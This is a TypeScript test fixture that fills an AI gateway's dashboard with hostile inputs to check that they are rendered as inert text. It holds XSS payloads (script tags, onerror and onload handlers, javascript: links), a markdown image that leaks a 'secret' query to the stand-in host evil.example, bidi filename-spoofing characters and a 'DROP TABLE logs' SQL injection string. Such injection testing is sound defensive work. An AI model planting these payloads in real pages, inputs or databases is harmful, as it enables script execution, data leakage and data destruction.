import type { ServerResponse } from 'node:http';
import { startUpstream, type Upstream } from '../flows/wire-upstream.ts';
import { ADMIN_TOKEN, gatewayBody, type TestGateway } from '../support/gateway.ts';
import { GATEWAY, type Office } from './busy-office.ts';

/** Sets this flag of the window when it runs: nothing may. */
export const FLAG = 'ranIt';
export const EVIL_HOST = 'evil.example';
const RUN = `${FLAG}=1`;

/** Short texts that are more than text where a page is careless; the first words tell where they are shown. */
export const MARKUP = `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload=${RUN}>`;
const MARKDOWN = `![a](https://${EVIL_HOST}/pixel.png?q=secret) [b](javascript:${RUN}) <https://${EVIL_HOST}/>`;
const BIDI = 'invoice\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u{e0041}';
const LONG_WORD = 'W'.repeat(100_000);
const RIGHT_TO_LEFT = 'מה שלומך היום؟ كيف حالك 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿';
const HOSTILE = [MARKUP, MARKDOWN, BIDI, `javascript:${RUN}`, RIGHT_TO_LEFT, "'; DROP TABLE logs; --"];

/** Short enough for a question. */
export const HOSTILE_TEXT = HOSTILE.join('\n');

export interface HostileOffice extends Office {
  readonly upstream: Upstream;
}

/** Everything that a stranger can name or say, said as badly as can be. */
export async function furnishHostile(test: TestGateway): Promise<HostileOffice> {
  const upstream = await startUpstream();
  upstream.handle = (request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => answer(Buffer.concat(chunks).toString(), response));
  };
  await test.manage(
    'POST',
    '/gateways',
    gatewayBody({ id: GATEWAY, provider_urls: { openai: upstream.url } }),
  );
  await test.manage('POST', `/gateways/${GATEWAY}/provider_configs`, {
    provider_slug: 'openai',
    alias: 'default',
    secret: 'stored-key',
  });
  await test.manage('POST', '/tokens', { name: MARKUP, role: 'run' });
  await test.manage('POST', '/tokens', { name: BIDI, role: 'viewer' });
  await test.manage('POST', '/custom-providers', {
    name: `${MARKUP}${MARKDOWN}`.slice(0, 255),
    slug: 'odd',
    base_url: `https://${EVIL_HOST}/`,
    enable: true,
  });
  await test.manage('POST', `/gateways/${GATEWAY}/views`, {
    name: MARKUP.slice(0, 60),
    page: 'logs',
    query: '',
  });

  let log = '';
  const session = `s-${MARKUP.slice(0, 90)}`;
  for (const text of [...HOSTILE, LONG_WORD]) {
    log = await say(test, { text: 'refuse this', model: `bad ${text.slice(0, 200)}`, session });
    log = await say(test, { text, model: text.slice(0, 200), session });
  }
  log = await say(test, { text: HOSTILE.join('\n\n'), model: MARKUP, session });
  const { id: dataset } = (await test.manage('POST', `/gateways/${GATEWAY}/datasets`, {
    name: MARKUP,
    enable: true,
    filters: [{ key: 'model', operator: 'contains', value: [MARKUP] }],
  })) as { id: string };
  const { id: evaluation } = (await test.manage('POST', `/gateways/${GATEWAY}/evaluations`, {
    name: MARKUP,
    dataset_ids: [dataset],
    evaluation_type_ids: ['cost', 'exact_match'],
    parameters: { exact_match: { expected: MARKUP } },
  })) as { id: string };
  return { log, session, evaluation, upstream };
}

interface Said {
  readonly text: string;
  readonly model: string;
  readonly session: string;
}

/** Sent as any client could; returns the id of its record. */
async function say(test: TestGateway, { text, model, session }: Said): Promise<string> {
  const image = { type: 'image_url', image_url: { url: `https://${EVIL_HOST}/image.png` } };
  const inline = {
    type: 'image_url',
    image_url: { url: `data:image/svg+xml,${encodeURIComponent(MARKUP)}` },
  };
  const response = await fetch(`${test.base(GATEWAY)}/openai/v1/chat/completions`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: 'Bearer clients-key',
      'cf-aig-authorization': `Bearer ${ADMIN_TOKEN}`,
      'user-agent': MARKUP,
      'x-claude-code-session-id': session,
      'cf-aig-metadata': ascii({ [MARKUP.slice(0, 30)]: text.slice(0, 300), user: MARKUP }),
    },
    body: JSON.stringify({
      model,
      messages: [
        { role: 'system', content: text },
        { role: 'user', content: [{ type: 'text', text }, image, inline] },
      ],
      tools: [
        { type: 'function', function: { name: 'open', description: text, parameters: { title: text } } },
      ],
    }),
  });
  await response.arrayBuffer();
  return String((await test.record(response, GATEWAY)).id);
}

/** Headers are ASCII: what is not stands in JSON as an escape. */
const ascii = (value: object): string =>
  JSON.stringify(value).replace(
    /[^\x20-\x7e]/g,
    (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );

/** Says the same back: as an answer with a tool call, or as an error. */
function answer(body: string, response: ServerResponse): void {
  const { model, messages } = JSON.parse(body) as { model: string; messages: { content: unknown }[] };
  const text = String(messages[0]?.content);
  const isError = model.startsWith('bad ');
  response.writeHead(isError ? 400 : 200, { 'content-type': 'application/json' });
  const error = { message: `${model} ${MARKUP}`, type: MARKUP, code: MARKUP };
  const call = {
    id: MARKUP,
    type: 'function',
    function: { name: MARKUP, arguments: JSON.stringify({ text }) },
  };
  const message = { role: 'assistant', content: text, tool_calls: [call] };
  response.end(
    JSON.stringify(
      isError
        ? { error }
        : {
            id: MARKUP,
            object: 'chat.completion',
            model,
            choices: [{ index: 0, message, finish_reason: MARKUP }],
            usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
          },
    ),
  );
}
